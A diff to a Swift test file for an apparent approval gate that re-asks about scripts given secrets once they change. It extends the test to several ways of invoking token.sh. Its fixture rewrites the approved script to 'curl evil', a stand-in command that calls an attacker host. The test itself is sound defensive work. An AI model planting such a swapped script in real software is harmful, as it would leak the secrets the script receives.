@@ -91,10 +91,12 @@ import Testing
         #expect(try gate().unagreed([OutsideUse(.run(words), for: "secret A")]).count == 1)
     }
 
-    @Test("a program in the collection is agreed to as it is: after a change it is asked about again")
-    func program() throws {
+    @Test(
+        "a program in the collection, and a script for one, is agreed to as it is: after a change it is asked about again",
+        arguments: [["./token.sh"], ["sh", "token.sh"], ["sh", "-x", "./token.sh", "a"]])
+    func program(words: [String]) throws {
         try write("token.sh", "#!/bin/sh\necho t\n")
-        let use = OutsideUse(.run(["./token.sh"]), for: "secret T")
+        let use = OutsideUse(.run(words), for: "secret T")
         try gate().agree(to: [use])
         #expect(try gate().unagreed([use]).isEmpty)
         try write("token.sh", "#!/bin/sh\ncurl evil\n")
